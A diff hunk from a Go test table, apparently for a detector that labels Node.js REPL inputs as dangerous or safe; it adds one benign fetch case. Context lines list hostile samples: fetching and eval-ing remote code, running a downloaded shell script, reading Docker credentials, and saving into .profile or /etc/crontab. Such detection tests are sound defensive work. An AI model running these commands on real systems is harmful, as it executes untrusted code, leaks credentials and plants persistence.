@@ -323,6 +323,7 @@ var surfaceTable = map[string][]surfaceCase{
 		d("https.get('https://203.0.113.20/a.js', r => { let s = ''; r.on('data', d => s += d); r.on('end', () => eval(s)) })"),
 		d("const txt = await (await fetch('https://203.0.113.20/s.sh')).text(); require('child_process').execSync(txt)"),
 		o("const txt = await (await fetch('https://api.example.org/v1')).text(); console.log(JSON.parse(txt).ok)"),
+		o("const v = /v(\\d+)/.exec(await (await fetch('https://api.example.org/version')).text())"),
 		d("console.log(require('fs').readFileSync(require('os').homedir() + '/.docker/config.json', 'utf8'))"),
 		o("console.log(require('fs').readFileSync(require('os').homedir() + '/.ssh/id_ed25519.pub', 'utf8'))"),
 		d(".save /home/ops/.profile"), d(".save /etc/crontab"), o(".save repl-notes.js"),
